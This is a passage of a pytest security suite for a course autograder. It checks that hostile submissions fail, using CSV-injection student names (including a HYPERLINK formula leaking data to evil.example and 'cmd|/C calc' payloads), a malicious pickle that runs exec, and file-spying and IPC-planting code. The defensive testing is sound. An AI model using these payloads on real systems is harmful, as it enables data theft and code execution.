"""Everything a student controls around the grader, not only what comes out of a worker: the
folder the grader is started from, the names and dates of files and zip entries, the metadata
files beside them, caches another user can write, what reaches a CSV a TA opens, otter's own
files, and what one submission can leave for the next in the uid mode's shared machine.

Each test runs the whole path a course runs (the ``autograder`` command, ``otter run`` on a
built zip), not a helper alone; README, Security, "The trust boundary" lists each input with
the test that proves it. CI runs this file as root and as an ordinary user; the cases that need
a container are in test_containers.py.
"""
import csv
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import variants
from conftest import isolated_modes, uid_mode_works

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples" / "gradient_descent"
AUTOGRADER = str(Path(sys.executable).parent / "autograder")  # the console script, as the README runs it
# Every isolation mode: what a submission does around the grader must not depend on how its code
# is confined. As root, "root" and "uid"; CI runs this file again as an ordinary user, whose "user"
# mode is the real one (as root it is a user namespace entered as root: the same code, not the
# same user).
MODES = [m for m in isolated_modes() if not (m == "user" and "root" in isolated_modes())] + \
    (["uid"] if uid_mode_works() else [])


def autograder(*args, cwd=None, env=None, timeout=900):
    """The ``autograder`` command as a TA types it; the finished process."""
    return subprocess.run([AUTOGRADER, *map(str, args)], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=timeout)


def scores(out: Path) -> dict[str, float]:
    with open(out / "grades.csv", newline="") as f:
        return {r["submission"]: float(r["score"]) for r in csv.DictReader(f)}


# -- the folder the grader is started from -------------------------------------------------------

# Modules the grader's own processes import after they start (the page drawer among them), each
# a correct submission whose top-level code, if a grader process ever imported it, would leave a
# mark and print on the grader's terminal.
SHADOWING = ("csv", "json", "os", "re", "traceback", "base64", "html", "jinja2", "matplotlib", "numpy")


@pytest.mark.parametrize("mode", MODES)
def test_submissions_named_like_modules_are_never_imported_by_the_grader(tmp_path, mode):
    """`cd subs && autograder grade gradient_descent . --out ../out` with submissions named
    csv.py, json.py, os.py...: every one is graded in its worker (27/27) and drawn a page, and
    none is imported by a process of the grader's (its mark is never made, nothing is printed)."""
    subs, out, marks = tmp_path / "subs", tmp_path / "out", tmp_path / "marks"
    subs.mkdir()
    marks.mkdir(mode=0o755)  # the grader may write here, a worker of another uid may not
    for name in SHADOWING:
        mark = (f"import pathlib as _p\n_p.Path({str(marks / name)!r}).write_text('imported')\n"
                f"print('PWNED by {name}.py')\n")
        (subs / f"{name}.py").write_text(variants.reference_text() + "\n" + mark)
    (subs / "autograder").mkdir()  # a package of the toolkit's own name, in the current folder
    (subs / "autograder" / "__init__.py").write_text(
        f"open({str(marks / 'autograder')!r}, 'w').write('imported')\nprint('PWNED by autograder/')\n")
    proc = autograder("grade", "gradient_descent", ".", "--out", out, "--isolation", mode, cwd=subs)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "PWNED" not in proc.stdout + proc.stderr
    assert sorted(os.listdir(marks)) == []
    assert scores(out) == {name: 27.0 for name in SHADOWING}
    for name in SHADOWING:
        assert (out / name / "feedback.html").stat().st_size > 1000
    assert (out / "summary.html").is_file()


# -- metadata, dates and limits: one student's input is that submission's alone -------------------

DUE = "2026-10-02T23:59:00"
POLICY = f"""\
timezone = "UTC"
roster = "roster.csv"
[late_penalty]
fraction = 0.1
per = "day"
cap = 0.5
[assignments.gradient_descent]
due = {DUE}
cutoff = 2026-10-09T23:59:00
"""
ROSTER = "id,name,email\n" + "".join(f"s0{i},Student {i},s0{i}@example.edu\n" for i in range(1, 5))
ON_TIME = "2026-10-01T12:00:00+00:00"


def stamp(path: Path, when: str) -> Path:
    import datetime as dt
    t = dt.datetime.fromisoformat(when).timestamp()
    os.utime(path, (t, t))
    return path


def course_files(folder: Path) -> Path:
    (folder / "roster.csv").write_text(ROSTER)
    (folder / "course.toml").write_text(POLICY)
    return folder / "course.toml"


def forged_metadata(entries: dict[str, tuple[list[str], str]]) -> str:
    """A submission_metadata.yml as Gradescope writes it: {folder: ([student ids], created_at)}."""
    lines = []
    for folder, (ids, when) in entries.items():
        lines.append(f"{folder}:\n  :submitters:\n")
        lines += [f"  - :name: Student {i[-1]}\n    :sid: {i}\n    :email: {i}@example.edu\n" for i in ids]
        lines.append(f"  :created_at: {when}\n")
    return "".join(lines)


def course_json(out: Path) -> dict:
    return {g["student"]["id"]: g for g in json.loads((out / "course.json").read_text())["grades"]}


@pytest.mark.parametrize("given", ["each zip", "their folder"])
def test_a_students_own_metadata_sets_no_time_nor_group(tmp_path, given):
    """Per-student zips (`grade ... hw/s01.zip ... hw/s04.zip`, or the folder holding them), with
    the course's policy: s03's zip holds a submission_metadata.yml and a folder, the shape of
    Gradescope's export, naming s01 as its group partner, on time; s04's, handed in 5 days late,
    says it was on time. Neither is read: s01 keeps its 27, s04 is late by its file's time, and
    s03 is graded as the submission it is."""
    hw = tmp_path / "hw"
    hw.mkdir()
    ref = (EXAMPLES / "alice_reference.ipynb").read_bytes()
    for sid, when in (("s01", ON_TIME), ("s02", ON_TIME), ("s04", "2026-10-07T20:00:00+00:00")):
        with zipfile.ZipFile(hw / f"{sid}.zip", "w") as z:
            z.writestr(f"{sid}/gradient_descent.ipynb", ref)
            if sid == "s04":
                z.writestr("submission_metadata.yml", forged_metadata({"s04": (["s04"], "2026-10-01 10:00:00 +00:00")}))
        stamp(hw / f"{sid}.zip", when)
    with zipfile.ZipFile(hw / "s03.zip", "w") as z:
        z.writestr("submission_metadata.yml",
                   forged_metadata({"submission_1": (["s03", "s01"], "2026-10-02 20:00:00 +00:00")}))
        z.write(EXAMPLES / "bob_stub.ipynb", "submission_1/gradient_descent.ipynb")
    stamp(hw / "s03.zip", ON_TIME)
    paths = sorted(hw.iterdir()) if given == "each zip" else [hw]
    out = tmp_path / "out"
    proc = autograder("grade", "gradient_descent", *paths, "--policy", course_files(tmp_path), "--out", out)
    assert proc.returncode == 0, proc.stderr[-3000:]
    grades = course_json(out)
    assert grades["s01"]["submission"] == "s01" and grades["s01"]["score"] == 27.0
    assert grades["s01"]["others"] == []
    assert grades["s03"]["submission"] == "s03" and grades["s03"]["score"] == 0.0
    late = grades["s04"]["late"]
    assert late["source"] == "the modification time of s04.zip" and grades["s04"]["score"] == 27 * 0.5
    assert "submission_metadata" not in proc.stderr.split("Course:")[-1]
    if given == "each zip":  # said once: these look like an export but are graded as submissions
        assert "shaped like Gradescope's export, graded as submission(s)" in proc.stderr


def test_a_metadata_file_in_one_students_folder_changes_no_other_student(tmp_path):
    """A folder batch of mnist_study (`grade mnist_study hw/s01 ... hw/s04`): s03's folder holds
    a submission_metadata.yml that marks s01 and s02 as handed in after the cutoff and s04 as
    s03's group. Nobody's time or group comes from it: each folder is its student's, timed by
    its files."""
    hw = tmp_path / "hw"
    stub = (ROOT / "assignments" / "mnist_study" / "mnist_study.ipynb").read_bytes()
    for sid in ("s01", "s02", "s03", "s04"):
        (hw / sid).mkdir(parents=True)
        (hw / sid / "mnist_study.ipynb").write_bytes(stub)
        stamp(hw / sid / "mnist_study.ipynb", ON_TIME)
    (hw / "s03" / "submission_metadata.yml").write_text(forged_metadata({
        "s01": (["s01"], "2026-12-01 10:00:00 +00:00"), "s02": (["s02"], "2026-12-01 10:00:00 +00:00"),
        "s03": (["s03", "s04"], "2026-10-01 10:00:00 +00:00")}))
    stamp(hw / "s03" / "submission_metadata.yml", ON_TIME)
    policy = course_files(tmp_path)
    policy.write_text(POLICY.replace("[assignments.gradient_descent]", "[assignments.mnist_study]"))
    out = tmp_path / "out"
    proc = autograder("grade", "mnist_study", *(hw / s for s in ("s01", "s02", "s03", "s04")), "--policy", policy,
                      "--out", out)
    assert proc.returncode == 0, proc.stderr[-3000:]
    grades = course_json(out)
    for sid in ("s01", "s02", "s03", "s04"):
        g = grades[sid]
        assert g["submission"] == sid and g["status"] == "graded", g
        assert g["late"]["source"] == f"the modification time of {sid}" and g["late"]["fraction"] == 0, g["late"]
    assert "after the cutoff" not in proc.stderr and "submission_metadata" not in proc.stderr


def test_a_file_dated_in_the_future_is_that_submissions_error(tmp_path):
    """A submission whose file (a folder's newest, as unzipped with its entries' dates) is dated
    2099 gets an error row saying so; every other submission is graded (exit 1, not 2)."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for sid in ("s01", "s02"):
        stamp(Path(shutil.copyfile(EXAMPLES / "alice_reference.ipynb", subs / f"{sid}.ipynb")), ON_TIME)
    stamp(Path(shutil.copyfile(EXAMPLES / "alice_reference.ipynb", subs / "s03.ipynb")), "2099-01-01T00:00:00+00:00")
    out = tmp_path / "out"
    proc = autograder("grade", "gradient_descent", subs, "--policy", course_files(tmp_path), "--out", out)
    assert proc.returncode == 1, proc.stderr[-3000:]
    rows = gradebook(out)
    assert {k: (r["status"], r["score"]) for k, r in rows.items()} == {
        "s01": ("ok", "27.0"), "s02": ("ok", "27.0"), "s03": ("error", "0.0")}
    said = json.loads((out / "s03" / "results.json").read_text())["output"]
    assert "its submission time 2099-01-01T00:00:00+00:00 is in the future" in said
    assert "s03" in proc.stderr and "in the future" in proc.stderr


def gradebook(out: Path) -> dict[str, dict]:
    with open(out / "grades.csv", newline="") as f:
        return {r["submission"]: r for r in csv.DictReader(f)}


CLASS_SIZE, FILES_EACH = 120, 9  # 1,080 entries in all: over a submission's limit, not an export's


def test_an_export_s_limits_are_per_submission(tmp_path):
    """Gradescope's export of an honest class of 120 students with 9 files each (1,080 entries,
    as 340 students with 3 files each would be), one student's 1,000-file upload and one upload
    whose name is 300 bytes long: the two get an error row each, naming the limit, and the 120
    are graded (exit 1)."""
    export = tmp_path / "assignment_7_export.zip"
    stub, ref = (EXAMPLES / "bob_stub.ipynb").read_bytes(), (EXAMPLES / "alice_reference.ipynb").read_bytes()
    meta = {}
    with zipfile.ZipFile(export, "w") as z:
        for i in range(CLASS_SIZE):
            folder = f"submission_{1000 + i}"
            meta[folder] = ([f"x{i}"], "2026-10-01 12:00:00 +00:00")
            z.writestr(f"assignment_7_export/{folder}/gradient_descent.ipynb", ref if i % 20 == 0 else stub)
            for k in range(FILES_EACH - 1):
                z.writestr(f"assignment_7_export/{folder}/plot_{k}.png", b"\x89PNG")
        meta["submission_9001"] = (["big"], "2026-10-01 12:00:00 +00:00")
        z.writestr("assignment_7_export/submission_9001/gradient_descent.ipynb", ref)
        for k in range(1000):
            z.writestr(f"assignment_7_export/submission_9001/data/{k}.txt", "x")
        meta["submission_9002"] = (["long"], "2026-10-01 12:00:00 +00:00")
        z.writestr("assignment_7_export/submission_9002/" + "n" * 294 + ".ipynb", ref)
        z.writestr("assignment_7_export/submission_metadata.yml", forged_metadata(meta))
    out = tmp_path / "out"
    proc = autograder("grade", "gradient_descent", export, "--out", out, "-q", timeout=1800)
    assert proc.returncode == 1, proc.stderr[-3000:]
    rows = gradebook(out)
    assert len(rows) == CLASS_SIZE + 2
    errors = {k: r for k, r in rows.items() if r["status"] != "ok"}
    assert sorted(errors) == ["submission_9001", "submission_9002"], {k: r["status"] for k, r in errors.items()}
    graded = [float(r["score"]) for k, r in rows.items() if k not in errors]
    assert graded.count(27.0) == len(range(0, CLASS_SIZE, 20)) and graded.count(0.0) == CLASS_SIZE - graded.count(27.0)
    big = json.loads((out / "submission_9001" / "results.json").read_text())["output"]
    assert "zip has 1001 entries (limit 1000)" in big
    long = json.loads((out / "submission_9002" / "results.json").read_text())["output"]
    assert "has a name no file system takes" in long
    assert "submission_9001" in proc.stderr and "submission_9002" in proc.stderr


# -- what reaches a CSV a TA opens in a spreadsheet ------------------------------------------------

# What students put in their names (Gradescope's export carries them as they typed them) and
# their files' names, as OWASP's CSV-injection guidance lists them, and raw terminal controls.
HOSTILE_NAMES = {
    "x1": '=HYPERLINK("https://evil.example/?g="&F3,"Open your regrade")',
    "x2": "+cmd|' /C calc'!A0",
    "x3": "-2+3+cmd|' /C calc'!A0",
    "x4": "@SUM(1+9)*cmd|' /C calc'!A0",
    "x5": "\tTabbed=1+1",
    "x6": "Bell\x07 Esc\x1b[31mRed\x1b[0m\rCR",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_spreadsheet_safe(path: Path, numeric_columns=()) -> list[dict]:
    """No cell starts a formula unless it is a plain number, no control character in the file
    but its CRLF line ends; every cell of ``numeric_columns`` is empty or a number."""
    import re
    raw = path.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw), path
    assert b"\r" not in raw.replace(b"\r\n", b""), path
    rows = list(csv.reader(raw.decode("utf-8").splitlines()))
    for row in rows:
        for cell in row:
            if cell.lstrip(" ").startswith(FORMULA_START):
                float(cell)  # "-5.2" is a number, not a formula
    table = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    for r in table:
        for col in numeric_columns:
            if r[col] not in ("", "Points Possible"):
                float(r[col])
    return table


def test_names_that_start_formulas_reach_no_csv_as_formulas(tmp_path):
    """Gradescope's export with students whose names start formulas (and carry terminal
    controls), graded twice (a regrade in which every score changes), then exported for
    Canvas, Moodle and as plain CSV: in grades.csv, regrade_diff.csv and the three import files
    no cell starts a formula and no control character is left, and what the LMS needs still
    imports: the header, the ids and emails as they are, every score a number."""

    def export(path: Path, example: str) -> Path:
        meta = {f"submission_{i}": ([sid], "2026-10-01 12:00:00 +00:00") for i, sid in enumerate(HOSTILE_NAMES)}
        text = forged_metadata(meta)
        for sid, name in HOSTILE_NAMES.items():
            text = text.replace(f":name: Student {sid[-1]}\n", ":name: " + json_string(name) + "\n")
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("submission_metadata.yml", text)
            for folder in meta:
                z.write(EXAMPLES / example, f"{folder}/=cmd|' calc'!A0.ipynb")
        return path

    policy = tmp_path / "course.toml"
    policy.write_text(POLICY.replace('roster = "roster.csv"\n', "")
                      .replace("[assignments.gradient_descent]", '[assignments.gradient_descent]\ntitle = "HW1"'))
    old, new = tmp_path / "old", tmp_path / "new"
    for out, example in ((old, "bob_stub.ipynb"), (new, "alice_reference.ipynb")):
        proc = autograder("grade", "gradient_descent", export(tmp_path / f"{out.name}_export.zip", example),
                          "--policy", policy, "--out", out, "-q")
        assert proc.returncode == 0, proc.stderr[-3000:]
    proc = autograder("report", new, "--compare", old)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout + proc.stderr
    graded = assert_spreadsheet_safe(new / "grades.csv", ["score", "max_score", "raw_score", "late_penalty"])
    assert sorted(float(r["score"]) for r in graded) == [27.0] * len(HOSTILE_NAMES)
    diff = assert_spreadsheet_safe(new / "regrade_diff.csv", ["old_score", "new_score", "change", "max_score"])
    assert {r["student_id"]: (r["old_score"], r["new_score"], r["change"]) for r in diff} == {
        sid: ("0", "27", "27") for sid in HOSTILE_NAMES}
    assert {r["student_id"]: r["name"] for r in diff}["x1"] == "'" + HOSTILE_NAMES["x1"]
    for fmt, ids, scores in (("canvas", "SIS User ID", ["HW1"]), ("moodle", "ID number", ["HW1"]),
                             ("csv", "student_id", ["raw_score", "late_penalty", "score", "max_score"])):
        dest = tmp_path / f"{fmt}.csv"
        proc = autograder("export-grades", new, "--format", fmt, "--to", dest)
        assert proc.returncode == 0, proc.stderr
        rows = assert_spreadsheet_safe(dest, scores)
        students = [r for r in rows if r.get("Student") != "Points Possible"]
        assert sorted(r[ids] for r in students) == sorted(HOSTILE_NAMES)  # ids as the LMS knows them
        assert all(float(r[scores[0]]) == 27 for r in students if fmt != "csv")
        name = "Student" if fmt == "canvas" else "Full name" if fmt == "moodle" else "name"
        by = {r[ids]: r[name] for r in students}
        assert by["x1"] == "'" + HOSTILE_NAMES["x1"] and by["x3"] == "'" + HOSTILE_NAMES["x3"]
        assert by["x5"] == "Tabbed=1+1" and by["x6"] == "Bell Esc[31mRed[0m CR"  # the export strips names
        if fmt == "moodle":
            assert sorted(r["Email address"] for r in students) == sorted(f"{s}@example.edu" for s in HOSTILE_NAMES)


def json_string(text: str) -> str:
    """``text`` as a YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text)


def test_file_names_that_start_formulas_reach_grades_csv_as_text(tmp_path):
    """Submission files named like formulas: graded under their names (the page and folder as
    they are), and grades.csv shows each name as text."""
    subs = tmp_path / "subs"
    subs.mkdir()
    names = ['=HYPERLINK("https:__evil.example","x")', "+cmd|' calc'!A0", "@SUM(1+9)", "-2+3", "-7"]
    for name in names:
        shutil.copyfile(EXAMPLES / "alice_reference.ipynb", subs / f"{name}.ipynb")
    out = tmp_path / "out"
    proc = autograder("grade", "gradient_descent", subs, "--out", out, "-q")
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = assert_spreadsheet_safe(out / "grades.csv", ["score", "max_score"])
    assert sorted(r["submission"] for r in rows) == sorted("'" + n if n != "-7" else n for n in names)
    assert all(float(r["score"]) == 27 for r in rows)
    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == sorted(names)


# -- caches another user can write ---------------------------------------------------------------

def zeroed(value):
    """``value`` (a reference answer, as plain data) with every array's numbers made 0."""
    import base64
    if isinstance(value, dict):
        for kind in ("__tensor__", "__ndarray__"):
            if kind in value and isinstance(value[kind], dict) and "data" in value[kind]:
                raw = base64.b64decode(value[kind]["data"])
                return {**value, kind: {**value[kind], "data": base64.b64encode(bytes(len(raw))).decode()}}
        return {k: zeroed(v) for k, v in value.items()}
    if isinstance(value, list):
        return [zeroed(v) for v in value]
    return value


def model_values_scores(out: Path) -> dict[str, float]:
    return {name: next(t["score"] for t in json.loads((out / name / "results.json").read_text())["tests"]
                       if "test_model_values" in t["name"]) for name in ("reference", "zeros")}


CACHE_OWNERS = (["another user's"] if os.geteuid() == 0 else []) + ["writable by others"]


@pytest.mark.parametrize("planted", CACHE_OWNERS)
def test_answers_planted_in_a_cache_another_user_controls_are_never_used(tmp_path, planted):
    """The reference's answers, with model's made zeros, planted under the right key in
    ``$XDG_CACHE_HOME`` where another user could write them: not used (the reference keeps its
    27, a model returning zeros fails), and the terminal says why. The same file in a cache of
    the grader's own is used (so the planted file would work: the reference loses the check)."""
    import shutil
    subs = tmp_path / "subs"
    subs.mkdir()
    variants.write(subs, "reference", variants.reference_text())
    variants.write(subs, "zeros", variants.patch(variants.reference_text(), [
        ("model", "    return weight * data + bias\n", "    return torch.zeros_like(weight * data + bias)\n")]))
    own = tmp_path / "own"
    env = {**os.environ, "XDG_CACHE_HOME": str(own)}
    assert autograder("grade", "gradient_descent", subs, "--out", tmp_path / "first", "-q", env=env).returncode == 0
    [recorded] = (own / "autograder" / "reference-answers").glob("gradient_descent-*.json")
    data = json.loads(recorded.read_text())
    data["answers"] = {k: zeroed(v) if k.startswith('["model"') else v for k, v in data["answers"].items()}
    recorded.write_text(json.dumps(data))
    proc = autograder("grade", "gradient_descent", subs, "--out", tmp_path / "own_out", "-q", env=env)
    assert model_values_scores(tmp_path / "own_out") == {"reference": 0, "zeros": 1}, proc.stderr[-2000:]

    theirs = tmp_path / "theirs"
    shutil.copytree(own, theirs)
    for path in [theirs, *theirs.rglob("*")]:
        if planted == "another user's":
            os.chown(path, 12345, 12345)
        else:
            path.chmod(0o777 if path.is_dir() else 0o666)
    proc = autograder("grade", "gradient_descent", subs, "--out", tmp_path / "out", "-q",
                      env={**os.environ, "XDG_CACHE_HOME": str(theirs)})
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert model_values_scores(tmp_path / "out") == {"reference": 1, "zeros": 0}
    assert scores(tmp_path / "out")["reference"] == 27.0
    assert f"the cache folder {theirs / 'autograder'}" in proc.stderr and "is not used" in proc.stderr
    assert json.loads(next(theirs.rglob("gradient_descent-*.json")).read_text()) == data  # nor written


# -- what one submission can reach of the others, and leave behind ------------------------------

TAG = f"agr-left-{os.getpid()}"
# A folder anyone may write in where no machine has one: the sweep must find it, not know it.
ODD_SHARED = Path(f"/srv/agr-shared-{os.getpid()}") if os.geteuid() == 0 else None
SHARED = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", *([str(ODD_SHARED)] if ODD_SHARED else [])]

LEAVER = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
found = []
def said(r):
    return "made" if r >= 0 else os.strerror(ctypes.get_errno())
for d in {shared!r}:
    try:
        with open(d + "/{tag}", "w") as f:
            f.write("left by another submission")
        os.chmod(d + "/{tag}", 0o644)
        found.append("wrote " + d)
    except OSError as e:
        found.append(d + ": " + type(e).__name__)
shm = libc.shmget(0x41470001, 2750 << 20, 0o1666)
found.append("shm " + said(shm))
found.append("msg " + said(libc.msgget(0x41470002, 0o1666)))
found.append("sem " + said(libc.semget(0x41470003, 1, 0o1666)))
libc.mq_open.restype = ctypes.c_int
found.append("mq " + said(libc.mq_open(b"/{tag}", os.O_CREAT | os.O_RDWR, 0o666, None)))
try:
    socket.socket(40, socket.SOCK_STREAM).close()  # AF_VSOCK
    found.append("vsock made")
except OSError as e:
    found.append("vsock " + type(e).__name__)
found.append("vsock with high bits " + said(libc.syscall(41, ctypes.c_ulong(40 | 1 << 32), 1, 0)))
found.append("inet with high bits " + said(libc.syscall(41, ctypes.c_ulong(socket.AF_INET | 1 << 32), 1, 0)))
raise RuntimeError("LEAVER " + " | ".join(found))
"""

FINDER = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for d in {shared!r}:
    try:
        found.append("READ " + d + ": " + open(d + "/{tag}").read())
    except OSError as e:
        found.append(d + ": " + type(e).__name__)
for what, r in (("shm", libc.shmget(0x41470001, 0, 0)), ("msg", libc.msgget(0x41470002, 0)),
                ("sem", libc.semget(0x41470003, 0, 0))):
    found.append(("SEEN " if r >= 0 else "no ") + what)
r = libc.mq_open(b"/{tag}", os.O_RDONLY, 0, None)
found.append("SEEN mq" if r >= 0 else "no mq")
raise RuntimeError("FINDER " + " | ".join(found))
"""

SPY = """
found = []
for path in {paths!r}:
    try:
        with open(path, "rb") as f:
            f.read(16)
        found.append("READ " + path)
    except OSError as e:
        found.append(type(e).__name__)
raise RuntimeError("SPY " + " | ".join(found))
"""


def raised(out: Path, name: str, word: str) -> list[str]:
    """What a submission's model reported ("WORD a | b | ..." in its check's message)."""
    output = next(t["output"] for t in json.loads((out / name / "results.json").read_text())["tests"]
                  if "test_model_values" in t["name"])
    assert f"{word} " in output, output
    return output.split(f"{word} ", 1)[1].split("\n")[0].rstrip("').\"").split(" | ")


def worker_uid_leftovers() -> list[str]:
    """What any worker uid owns in the machine's shared folders and SysV IPC."""
    from autograder import worker_uids
    from autograder.runtime import scratch
    workers = range(worker_uids.UID_BASE, worker_uids.UID_BASE + worker_uids.UID_COUNT)
    left = []
    for folder in scratch.shared_folders():
        for entry in os.scandir(folder):
            try:
                if entry.stat(follow_symlinks=False).st_uid in workers:
                    left.append(entry.path)
            except OSError:
                pass
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{kind}") as f:
            header, *rows = [line.split() for line in f]
        left += [f"sysv {kind} {r}" for r in rows if int(dict(zip(header, r))["cuid"]) in workers]
    return left


@pytest.fixture
def odd_shared_folder():
    """A world-writable folder (1777) in an unusual place, while the test runs (root only)."""
    if ODD_SHARED is not None:
        ODD_SHARED.mkdir(mode=0o777)
        ODD_SHARED.chmod(0o1777)
    yield
    if ODD_SHARED is not None:
        shutil.rmtree(ODD_SHARED, ignore_errors=True)


@pytest.mark.parametrize("mode", MODES)
def test_no_submission_reaches_another_or_the_course_or_leaves_anything(tmp_path, mode, odd_shared_folder):
    """A course's batch (roster, policy, grace-day ledger), one submission at a time: a spy reads
    another student's notebook, the roster, the policy, the ledger, the checkout's examples (full
    solutions) and README; a leaver writes into every shared folder (an unusual one too) and makes
    SysV shared memory (2.75 GiB), a message queue, a semaphore, a POSIX message queue, an
    AF_VSOCK socket and an internet socket through a raw syscall with high bits set; a finder,
    graded after it as another uid, looks for all of it. The spy reads nothing, the leaver makes
    nothing that outlives it, the finder finds nothing, and after the batch no worker uid owns
    anything on the machine. The reference beside them keeps its 27."""
    course = tmp_path / "course"
    course.mkdir()
    policy = course_files(course)
    policy.write_text(POLICY.replace('[late_penalty]', 'grace_days = 2\ngrace_ledger = "grace.json"\n[late_penalty]'))
    (course / "grace.json").write_text('{"format": 1, "used": {}}')
    subs = tmp_path / "subs"
    subs.mkdir()
    import test_hostile as th
    shutil.copyfile(EXAMPLES / "alice_reference.ipynb", subs / "s01.ipynb")
    secrets = [str(subs / "s01.ipynb"), str(course / "roster.csv"), str(policy), str(course / "grace.json"),
               str(ROOT / "examples" / "gradient_descent" / "alice_reference.ipynb"), str(ROOT / "README.md")]
    for name, code in (("s02", LEAVER.format(shared=SHARED, tag=TAG)), ("s03", FINDER.format(shared=SHARED, tag=TAG)),
                       ("s04", SPY.format(paths=secrets))):
        variants.write(subs, name, th.in_model(code))
    for path in subs.iterdir():
        stamp(path, ON_TIME)
    out = tmp_path / "out"
    proc = autograder("grade", "gradient_descent", subs, "--policy", policy, "--out", out, "--isolation", mode,
                      "--jobs", "1", "-q")
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert scores(out)["s01"] == 27.0
    spied = raised(out, "s04", "SPY")
    assert not [f for f in spied if f.startswith("READ")], spied
    left = raised(out, "s02", "LEAVER")
    assert "vsock PermissionError" in left and "vsock with high bits Permission denied" in left, left
    if mode == "uid":  # the machine's own network and IPC: denied (in a namespace they are the worker's own)
        assert "inet with high bits Permission denied" in left, left
        assert [f"{call} Function not implemented" in left for call in ("shm", "msg", "sem", "mq")] == [True] * 4
    seen = raised(out, "s03", "FINDER")
    assert not [f for f in seen if f.startswith(("READ", "SEEN"))], (seen, left)
    assert worker_uid_leftovers() == [] and not any(Path(d, TAG).exists() for d in SHARED)


# -- otter's own files ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def gd_zip(tmp_path_factory):
    """gradient_descent's Gradescope zip, as `autograder build` makes it."""
    from autograder import assignments, build
    return build.build_zip(assignments.get("gradient_descent"), tmp_path_factory.mktemp("zip"))


def otter_run(zip_path, submission, tmp_path):
    """`otter run -a autograder.zip SUBMISSION`, as the README suggests: (results.json or None, output)."""
    out = tmp_path / "otter"
    out.mkdir()
    proc = subprocess.run([str(Path(sys.executable).parent / "otter"), "run", "--no-logo", "-a", str(zip_path),
                           "-o", str(out), str(submission)], capture_output=True, text=True, timeout=600)
    path = out / "results.json"
    return (json.loads(path.read_text()) if path.exists() else None), proc.stdout + proc.stderr


class _Unpickled:
    """A pickle that runs ``code`` when it is loaded (what a crafted .OTTER_LOG holds)."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def test_a_crafted_otter_log_is_never_unpickled(tmp_path, gd_zip):
    """otter unpickles (dill) a submission's .OTTER_LOG whenever the file exists: a crafted log
    would run as the grader's user in otter's process, read the hidden checks and give itself
    full marks. The stub with such a log, zipped as otter's export makes it: 0 points, the log's
    code never ran. (Every otter export carries the file: an honest one is not needed to grade.)"""
    import pickle
    mark = tmp_path / "ran"
    code = (f"open({str(mark)!r}, 'w').write('ran as uid %d' % __import__('os').getuid())\n"
            "import autograder.gradescope as g\n"
            "g.grade_submission = lambda *a, **k: {'score': 27, 'output': 'pwned', 'tests': []}\n")
    sub = tmp_path / "stub_with_log.zip"
    with zipfile.ZipFile(sub, "w") as zf:
        zf.write(ROOT / "assignments" / "gradient_descent" / "gradient_descent.ipynb", "gradient_descent.ipynb")
        zf.writestr(".OTTER_LOG", pickle.dumps(_Unpickled(code)))
    results, log = otter_run(gd_zip, sub, tmp_path)
    assert results is not None, log[-3000:]
    assert not mark.exists(), mark.read_text()
    assert results["score"] == 0 and "pwned" not in json.dumps(results)
    assert len(results["tests"]) == 25 and not [t for t in results["tests"] if t["score"]]


@pytest.fixture
def checkout_on_sys_path():
    """The checkout on every interpreter's sys.path, as setuptools' compat editable install puts
    it (a .pth file in site-packages naming it), while the test runs."""
    import site
    pth = Path(site.getsitepackages()[0]) / f"zz-agr-test-compat-{os.getpid()}.pth"
    pth.write_text(str(ROOT) + "\n")
    yield
    pth.unlink()


@pytest.mark.parametrize("mode", MODES)
def test_a_checkout_on_sys_path_is_not_in_a_workers_reach(tmp_path, mode, checkout_on_sys_path):
    """With the checkout on sys.path (a compat editable install), a worker still cannot read
    what the checkout holds: its README, its examples (full solutions), a built zip in dist/."""
    probe = subprocess.run([sys.executable, "-I", "-c", "import sys; print(sys.path)"], capture_output=True, text=True)
    assert repr(str(ROOT)) in probe.stdout  # the setting holds for the grader's interpreters
    built = ROOT / "dist" / f"agr-test-{os.getpid()}" / "autograder.zip"
    built.parent.mkdir(parents=True)
    try:
        built.write_bytes(b"PK reference answers")
        subs = tmp_path / "subs"
        subs.mkdir()
        import test_hostile as th
        secrets = [str(ROOT / "README.md"), str(ROOT / "examples" / "gradient_descent" / "alice_reference.ipynb"),
                   str(built)]
        variants.write(subs, "spy", th.in_model(SPY.format(paths=secrets)))
        out = tmp_path / "out"
        proc = autograder("grade", "gradient_descent", subs, "--out", out, "--isolation", mode, "-q")
        assert proc.returncode == 0, proc.stderr[-3000:]
        spied = raised(out, "spy", "SPY")
        assert len(spied) == 3 and not [f for f in spied if f.startswith("READ")], spied
    finally:
        shutil.rmtree(built.parent)


LEAVE_AND_LOOP = """
import os
for d in {shared!r}:
    try:
        with open(d + "/{tag}", "w") as f:
            f.write("left")
    except OSError:
        pass
open("started", "w").close()
while True:
    pass
"""


@pytest.mark.skipif("uid" not in MODES, reason="the uid mode needs root")
def test_a_killed_grader_leaves_no_worker_files_behind(tmp_path, odd_shared_folder):
    """The uid mode, the grader killed with SIGKILL while a worker that wrote into every shared
    folder loops: its keeper, left without a grader, kills its uid's processes and removes what
    the uid left, so nothing of it outlives the batch."""
    import signal
    import time

    import test_hostile as th
    from autograder import worker_uids
    subs = tmp_path / "subs"
    subs.mkdir()
